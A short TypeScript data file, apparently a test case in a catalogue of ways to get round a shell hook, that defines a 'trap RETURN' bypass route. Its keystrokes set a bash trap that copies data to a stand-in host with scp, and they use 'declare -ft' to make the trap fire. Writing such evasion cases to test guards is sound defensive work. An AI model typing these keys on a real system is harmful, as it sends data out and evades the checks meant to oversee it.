import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'trap RETURN',
  source: 'attempts to get round a hook of the shell',
  keys: ["trap 'scp DATA host:' RETURN\r", 'f() { :; }; declare -ft f; f\r'],
};
